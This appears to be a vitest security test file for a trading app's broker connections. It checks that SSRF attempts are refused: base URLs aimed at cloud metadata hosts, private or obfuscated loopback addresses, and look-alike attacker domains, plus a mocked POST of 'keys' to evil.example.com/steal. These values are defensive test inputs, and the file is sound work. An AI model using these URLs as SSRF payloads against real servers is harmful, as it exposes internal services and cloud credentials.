/**
 * Finding 2 (SSRF) and the defence in depth behind finding 1: a connection's
 * credentials go only to its broker's declared hosts.
 *
 * - A base URL that is an IP literal, a private/loopback/link-local/CGNAT/ULA
 *   address, a single-label or internal name, a metadata host, or simply not
 *   one of the broker's hosts is refused with a 400 naming the field, and
 *   nothing is sent.
 * - A row that already holds such a URL (written before the rules, or edited
 *   in D1) gets no request out: the transport refuses undeclared hosts at
 *   send time.
 * - Text from a host the broker does not declare is never echoed to the user.
 */
import { env } from "cloudflare:workers";
import { afterEach, describe, expect, it, vi } from "vitest";
import { plugins } from "../../plugins";
import { FAKE_PRACTICE_TOKEN, OandaFake } from "../../plugins/oanda/fake";
import { paperPlugin } from "../../plugins/paper";
import { BrokerError, definePlugin, undeclaredEnvironmentHosts } from "../../plugins/sdk";
import { createPluginContext } from "../../plugins/sdk/host";
import { contractProblems } from "../../plugins/testkit/contract-layer";
import { app } from "../../worker/app";
import { checkBaseUrl, unsafeHostReason } from "../../worker/connections/base-url";
import { API_ORIGIN, authed, signup, type ApiErrorJson } from "../helpers/api";
import { LOOPBACK_OANDA, routeOanda } from "../helpers/oanda-network";

interface Connection {
  id: string;
  status: string;
  settings: Record<string, unknown>;
  warnings: string[];
}

afterEach(() => {
  vi.restoreAllMocks();
});

const OANDA_RULES = { broker: "OANDA", declaredHosts: ["api-fxpractice.oanda.com", "api-fxtrade.oanda.com"], userChosenHosts: false, loopbackAllowed: false };

describe("a base URL is refused unless it is one of the broker's hosts (SSRF)", () => {
  it.each([
    ["https://169.254.169.254/latest/meta-data", /link-local/],
    ["https://10.0.0.5/v3", /private/],
    ["https://172.16.0.1/v3", /private/],
    ["https://192.168.1.10/v3", /private/],
    ["https://100.64.0.1/v3", /carrier-grade NAT/],
    ["https://[fd00::1]/v3", /private \(ULA\)/],
    ["https://[fe80::1]/v3", /link-local/],
    ["https://[::ffff:169.254.169.254]/v3", /link-local/],
    ["https://0.0.0.0/v3", /unspecified/],
    ["https://8.8.8.8/v3", /IP address; use the broker's host name/],
    ["https://metadata.google.internal/computeMetadata/v1", /internal name|metadata/],
    ["https://metadata.azure.com/metadata", /metadata/],
    ["https://broker/v3", /single-label/],
    ["https://printer.local/v3", /internal name/],
    ["https://router.lan/v3", /internal name/],
    ["https://nas.home.arpa/v3", /internal name/],
    ["https://10.0.0.1.nip.io/v3", /wildcard-DNS/],
    ["https://api-fxpractice.oanda.com.evil.example/v3", /one of OANDA's own hosts/],
    ["https://evil.example.com/v3", /one of OANDA's own hosts/],
  ])("refuses %s with a 400 and sends nothing", async (baseUrl, reason) => {
    const { token } = await signup();
    const network = routeOanda(new OandaFake(), () => Response.json({ accounts: [] }));
    const res = await authed(token).post<ApiErrorJson>("/api/connections", { broker: "oanda", name: "x", settings: { baseUrl }, credentials: { token: FAKE_PRACTICE_TOKEN } });
    expect(res.status, res.text).toBe(400);
    expect(res.body.error).toMatchObject({ messageCode: "invalid-request", field: "settings.baseUrl" });
    expect(res.body.error.message).toMatch(reason);
    expect(network.urls).toEqual([]);
  });

  it("loopback (any spelling) is refused outside development, even over https", () => {
    for (const url of ["https://127.0.0.1/v3", "https://0x7f.1/v3", "https://2130706433/v3", "https://localhost/v3", "https://api.localhost/v3", "https://[::1]/v3"]) {
      expect(() => checkBaseUrl(url, OANDA_RULES), url).toThrow(/only allowed when Tradeloop runs in development/);
    }
    expect(unsafeHostReason("api.oanda.com")).toBeNull();
  });

  it("in production the API refuses a loopback base URL even with ALLOW_HTTP_LOOPBACK set", async () => {
    const { token } = await signup();
    routeOanda(new OandaFake());
    const production = { ...env, ENVIRONMENT: "production", ALLOW_HTTP_LOOPBACK: "true" };
    const res = await app.request(
      `${API_ORIGIN}/api/connections`,
      { method: "POST", headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" }, body: JSON.stringify({ broker: "oanda", name: "x", settings: { baseUrl: LOOPBACK_OANDA }, credentials: { token: FAKE_PRACTICE_TOKEN } }) },
      production,
    );
    expect(res.status).toBe(400);
    expect(((await res.json()) as ApiErrorJson).error.field).toBe("settings.baseUrl");
  });

  it("a broker that lets users run their own host accepts it with a warning, never an IP or internal name", () => {
    const rules = { ...OANDA_RULES, broker: "IBKR", declaredHosts: ["api.ibkr.com"], userChosenHosts: true };
    const own = checkBaseUrl("https://gateway.my-trading.example/v1/api", rules);
    expect(own).toMatchObject({ kind: "user-chosen", url: "https://gateway.my-trading.example/v1/api" });
    expect(own.warning).toMatch(/a host you chose rather than one of IBKR's own/);
    expect(() => checkBaseUrl("https://192.168.1.5:5000/v1/api", rules)).toThrow(/private/);
    expect(() => checkBaseUrl("https://gateway.internal/v1/api", rules)).toThrow(/internal name/);
  });
});

describe("every installed plugin declares its hosts", () => {
  it("each environment URL is on a declared host (the kit's contract layer checks it)", () => {
    for (const plugin of Object.values(plugins)) {
      expect(undeclaredEnvironmentHosts(plugin.manifest), plugin.manifest.id).toEqual([]);
      expect(plugin.manifest.hosts.length, plugin.manifest.id).toBeGreaterThan(0);
    }
    const liar = definePlugin({ ...paperPlugin, manifest: { ...paperPlugin.manifest, hosts: ["elsewhere.example.com"] } });
    expect(contractProblems(liar, { plugin: liar, credentials: {} })).toContain(`environment URL ${paperPlugin.manifest.environments.paper} is not on a host in manifest.hosts`);
  });
});

describe("the transport refuses undeclared hosts at send time", () => {
  it("a plugin request to a host outside the allowed list never reaches the transport", async () => {
    const transport = vi.fn(async () => new Response("{}"));
    const context = createPluginContext({
      plugin: paperPlugin,
      connectionId: "c1",
      credentials: {},
      settings: {},
      environment: "paper",
      baseUrl: "https://paper.tradeloop.internal",
      transport,
      allowedHosts: ["paper.tradeloop.internal"],
      rateLimit: "off",
    });
    const refused = await context.fetch(new Request("https://evil.example.com/steal", { method: "POST", body: "keys" })).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(BrokerError);
    expect(refused).toMatchObject({ code: "undeclared-host", kind: "unsupported" });
    expect(transport).not.toHaveBeenCalled();
    await context.fetch(new Request("https://paper.tradeloop.internal/ok"));
    expect(transport).toHaveBeenCalledTimes(1);
  });

  it("a stored base URL on an attacker's host (an old row, or edited in D1) gets no request out", async () => {
    const { token } = await signup();
    const network = routeOanda(new OandaFake(), () => Response.json({ accounts: [] }));
    const created = await authed(token).post<Connection>("/api/connections", { broker: "oanda", name: "OANDA", credentials: { token: FAKE_PRACTICE_TOKEN } });
    expect(created.status, created.text).toBe(201);
    await env.DB.prepare("UPDATE connections SET settings = ? WHERE id = ?")
      .bind(JSON.stringify({ environment: "paper", baseUrl: "https://attacker.example.com/v3" }), created.body.id)
      .run();
    network.urls.length = 0;
    const test = await authed(token).post<{ ok: boolean; messageCode: string; message: string }>(`/api/connections/${created.body.id}/test`);
    expect(test.body).toMatchObject({ ok: false, messageCode: "undeclared-host" });
    expect(test.body.message).toMatch(/refuses to send it your credentials/);
    const reads = await authed(token).get<ApiErrorJson>(`/api/connections/${created.body.id}/positions`);
    expect(reads.status).toBe(502);
    expect(network.urls).toEqual([]);
    const shown = await authed(token).get<Connection>(`/api/connections/${created.body.id}`);
    expect(shown.body.warnings[0]).toMatch(/refuses to send requests to this connection's base URL/);
  });
});

describe("text from a host the broker does not declare is never echoed", () => {
  const LURE = "Your account is locked. Call +1 555 0100 and read us your API key to unlock it.";

  it("reads and tests against a local (undeclared) host show the code, never the host's words", async () => {
    const { token } = await signup();
    routeOanda(new OandaFake());
    const created = await authed(token).post<Connection>("/api/connections", { broker: "oanda", name: "Local", settings: { baseUrl: LOOPBACK_OANDA }, credentials: { token: FAKE_PRACTICE_TOKEN } });
    expect(created.status, created.text).toBe(201);
    vi.restoreAllMocks();
    vi.spyOn(globalThis, "fetch").mockImplementation(async () => Response.json({ errorCode: "ACCOUNT_LOCKED", errorMessage: LURE }, { status: 400 }));
    const positions = await authed(token).get<ApiErrorJson>(`/api/connections/${created.body.id}/positions`);
    expect(positions.status).toBe(502);
    expect(positions.text).not.toContain("555 0100");
    expect(positions.body.error.message).toMatch(/its own words are not shown/);
    const test = await authed(token).post<{ ok: boolean; message: string }>(`/api/connections/${created.body.id}/test`);
    expect(test.body.ok).toBe(false);
    expect(test.text).not.toContain("555 0100");
    const stored = await authed(token).get<Connection & { statusMessage: string }>(`/api/connections/${created.body.id}`);
    expect(stored.text).not.toContain("555 0100");
  });
});
